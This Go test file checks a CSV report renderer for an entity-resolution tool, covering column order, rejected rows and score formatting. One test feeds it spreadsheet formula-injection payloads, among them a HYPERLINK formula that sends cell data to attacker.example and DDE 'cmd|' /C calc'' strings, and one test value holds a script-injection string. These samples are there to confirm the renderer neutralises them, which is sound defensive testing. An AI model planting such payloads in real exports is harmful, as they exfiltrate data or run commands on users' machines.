package render

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/resolve-tool/resolve/resolve/report"
)

func TestCSVGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, sampleReport()); err != nil {
		t.Fatal(err)
	}
	golden(t, "sample.csv", buf.Bytes())
}

func readCSV(t *testing.T, r *report.Report) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := CSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	return recs
}

func TestCSVOneLinePerInputRowInOrder(t *testing.T) {
	r := sampleReport()
	recs := readCSV(t, r)
	header, rows := recs[0], recs[1:]
	if want := r.Run.Rows.Read; len(rows) != want {
		t.Fatalf("got %d data lines, want one per row read (%d)", len(rows), want)
	}
	var nums []int
	for _, rec := range rows {
		n, err := strconv.Atoi(rec[0])
		if err != nil {
			t.Fatalf("row column %q: %v", rec[0], err)
		}
		nums = append(nums, n)
	}
	if !slices.IsSorted(nums) {
		t.Errorf("rows not in input order: %v", nums)
	}
	col := func(name string) int {
		i := slices.Index(header, name)
		if i < 0 {
			t.Fatalf("no column %q in %v", name, header)
		}
		return i
	}
	byRow := map[string][]string{}
	for _, rec := range rows {
		byRow[rec[0]] = rec
	}
	tests := []struct {
		row, column, want string
	}{
		// A member carries its cluster's ID, name, size, flags and score.
		{"5", "cluster_id", "C0001"},
		{"5", "name", "NORTHWIND HARBOR TRADING COMPANY LIMITED"},
		{"5", "canonical_name", "Northwind Harbour Trading Co., Ltd."},
		{"5", "cluster_size", "4"},
		{"5", "flag_codes", "mass_registration_address;new_company;parked_website"},
		{"5", "risk_score", "0.6"},
		{"5", "status", "clustered"},
		{"5", "hs_code", "8542.31"},
		// An input column that clashes with a fixed one is renamed.
		{"3", "input:status", "held"},
		{"4", "flag_codes", ""},
		{"4", "risk_score", "0"},
		// Rejected rows keep their place and reason.
		{"7", "status", "rejected"},
		{"7", "reject_reason", "name: empty name"},
		{"7", "cluster_id", ""},
		{"12", "status", "ignored"},
		// Carried values are written untouched, but for a formula's leading "'".
		{"15", "hs_code", "'=1+2"},
		{"15", "consignee", "line one\nline two"},
		{"15", "name", `Quux & Sons </script><script>alert("x")</script> <b>Ltd</b>`},
	}
	for _, tt := range tests {
		rec, ok := byRow[tt.row]
		if !ok {
			t.Errorf("no line for row %s", tt.row)
			continue
		}
		if got := rec[col(tt.column)]; got != tt.want {
			t.Errorf("row %s, %s = %q, want %q", tt.row, tt.column, got, tt.want)
		}
	}
	// Carried columns follow the input header's order.
	wantTail := []string{"hs_code", "consignee", "input:status"}
	if got := header[len(CSVColumns):]; !slices.Equal(got, wantTail) {
		t.Errorf("carried columns = %v, want %v", got, wantTail)
	}
}

// TestCSVFormulaInjection: no cell of the CSV, whatever column it is in,
// begins with a character that makes a spreadsheet evaluate it (OWASP's list:
// = + - @ tab CR); such a value gets a leading "'" and is otherwise intact.
func TestCSVFormulaInjection(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("https://attacker.example/?"&A1,"click")`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	for _, p := range payloads {
		r := &report.Report{
			Run: report.Run{Input: report.Input{Columns: []string{"id", "name", p}}},
			Clusters: []report.Cluster{{ID: "C1", CanonicalName: p, Size: 1, Flags: []report.Flag{{Code: "x"}},
				Members: []report.Member{{Row: 2, ID: p, Name: p, Extra: report.ColumnsOf(map[string]string{p: p, "note": p})}}}},
			RejectedRows: []report.RejectedRow{{Row: 3, Column: p, Reason: "empty name", Raw: p}},
			IgnoredRows:  []report.IgnoredRow{{Row: 4, Name: p, Reason: p}},
		}
		recs := readCSV(t, r)
		for i, rec := range recs {
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%q: line %d, column %d begins with %q: %q", p, i, j, cell[0], cell)
				}
			}
		}
		header, row := recs[0], recs[1]
		for _, col := range []string{"id", "name", "canonical_name", "'" + p, "note"} {
			i := slices.Index(header, col)
			if i < 0 {
				t.Fatalf("%q: no column %q in %q", p, col, header)
			}
			if row[i] != "'"+p {
				t.Errorf("%q: %s = %q, want %q", p, col, row[i], "'"+p)
			}
		}
	}
	// Values that merely contain those characters, numbers and quotes are
	// written as they are.
	for _, v := range []string{"A=B Ltd", "Alpha-Beta", "3M", "'quoted'", "8542.31", " =1"} {
		if got := CSVCell(v); got != v {
			t.Errorf("CSVCell(%q) = %q", v, got)
		}
	}
}

func TestCSVCarriedColumnsNotInHeader(t *testing.T) {
	r := &report.Report{Clusters: []report.Cluster{{ID: "A", CanonicalName: "A", Size: 2, Members: []report.Member{
		{Row: 3, Name: "A", Extra: report.ColumnsOf(map[string]string{"zeta": "z3", "alpha": "a3"})},
		{Row: 2, Name: "A", Extra: report.ColumnsOf(map[string]string{"mid": "m2"})},
	}}}}
	recs := readCSV(t, r)
	// Row 2 comes first, so its key is first seen; row 3's keys follow sorted.
	want := []string{"mid", "alpha", "zeta"}
	if got := recs[0][len(CSVColumns):]; !slices.Equal(got, want) {
		t.Fatalf("carried columns = %v, want %v", got, want)
	}
	if got := recs[1]; got[0] != "2" || got[len(CSVColumns)] != "m2" || got[len(CSVColumns)+1] != "" {
		t.Errorf("first line = %v", got)
	}
}

func TestCSVEmptyReport(t *testing.T) {
	recs := readCSV(t, &report.Report{})
	if len(recs) != 1 || !slices.Equal(recs[0], CSVColumns) {
		t.Fatalf("got %v, want only the header", recs)
	}
}

func TestFormatScore(t *testing.T) {
	for in, want := range map[float64]string{0: "0", 1: "1", 0.35000000000000003: "0.35", 0.123456: "0.1235", 0.5: "0.5"} {
		if got := formatScore(in); got != want {
			t.Errorf("formatScore(%v) = %q, want %q", in, got, want)
		}
	}
}

func BenchmarkCSV50k(b *testing.B) {
	r := largeReport(50000)
	var buf bytes.Buffer
	for b.Loop() {
		buf.Reset()
		if err := CSV(&buf, r); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(buf.Len()))
}

// TestCSVKeepsInputFieldsAndWhyJoined: a member's country, address, date,
// website and e-mail are in their columns, and a linked member says which
// row it joined through, the score and the reasons; the seed row leaves
// them empty and a judgement says so.
func TestCSVKeepsInputFieldsAndWhyJoined(t *testing.T) {
	r := &report.Report{SchemaVersion: report.SchemaVersion}
	r.Run.Rows = report.RowCounts{Read: 3, Clustered: 3}
	r.Clusters = []report.Cluster{{ID: "C0000000001", CanonicalName: "Zorbex Trading Co Ltd", Size: 3, Members: []report.Member{
		{Row: 2, Name: "Zorbex Trading Co Ltd", Country: "KR", Address: "1 Example-ro, Busan", Date: "2024-01-02", Website: "https://zorbex.example", Email: "info@zorbex.example"},
		{Row: 3, Name: "ZORBEX TRADING", Country: "KR", Evidence: &report.Evidence{LinkedToRow: 2, LinkedToName: "Zorbex Trading Co Ltd", Score: 0.91234,
			Reasons: []report.Reason{{Kind: "token_exact", Effect: 0.9123}, {Kind: "legal_form", Effect: 0}, {Kind: "missing_token", Effect: -0.05}}}},
		{Row: 4, Name: "ZRBX Trading", Evidence: &report.Evidence{LinkedToRow: 2, Score: 1, Judgement: "same"}},
	}}}
	recs := readCSV(t, r)
	if !slices.Equal(recs[0][:len(CSVColumns)], CSVColumns) {
		t.Fatalf("header %v", recs[0])
	}
	get := func(line int, col string) string { return recs[line][slices.Index(CSVColumns, col)] }
	for col, want := range map[string]string{"country": "KR", "address": "1 Example-ro, Busan", "date": "2024-01-02",
		"website": "https://zorbex.example", "email": "info@zorbex.example", "linked_to_row": "", "link_reasons": ""} {
		if got := get(1, col); got != want {
			t.Errorf("seed row: %s = %q, want %q", col, got, want)
		}
	}
	if got := [3]string{get(2, "linked_to_row"), get(2, "link_score"), get(2, "link_reasons")}; got != [3]string{"2", "0.9123", "token_exact +0.9123; legal_form 0; missing_token -0.05"} {
		t.Errorf("linked row: %q", got)
	}
	if got := get(3, "link_reasons"); got != "judgement: same" {
		t.Errorf("judged row: link_reasons %q", got)
	}
}
